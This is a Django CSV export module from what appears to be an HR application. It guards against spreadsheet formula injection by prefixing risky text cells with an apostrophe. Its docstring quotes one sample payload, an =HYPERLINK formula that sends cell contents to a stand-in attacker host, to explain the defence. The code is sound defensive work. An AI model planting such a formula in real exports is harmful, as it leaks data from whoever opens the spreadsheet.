"""The one CSV writer behind every export (status board today; candidates, interviews…).

A spreadsheet treats a cell that starts with = + - @ (or a tab or carriage return, which
some programs skip before reading the formula) as a formula: a requisition title
`=HYPERLINK("http://evil.example/?leak="&A3,"Open")` written as it is would run in HR's
spreadsheet. Every text cell that could be read that way gets a leading apostrophe, the
neutralisation OWASP recommends, which spreadsheets show as text and do not display.
Numbers, dates and booleans are written as they are: a negative count is not a formula.
"""

import csv
import datetime
from collections.abc import Iterable, Sequence
from decimal import Decimal

from django.http import HttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise_cell(value):
    """A cell as written: text that a spreadsheet would evaluate starts with a quote."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal | datetime.date | datetime.time):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def write_csv(target, rows: Iterable[Sequence], *, header: Sequence[str] | None = None) -> None:
    """Write `header` then `rows` to a file-like `target` (an HttpResponse works), every
    cell through `neutralise_cell`."""
    writer = csv.writer(target)
    if header is not None:
        writer.writerow([neutralise_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([neutralise_cell(cell) for cell in row])


def csv_response(filename: str) -> HttpResponse:
    """An attachment response to `write_csv` into. The file name is ours, never user text."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
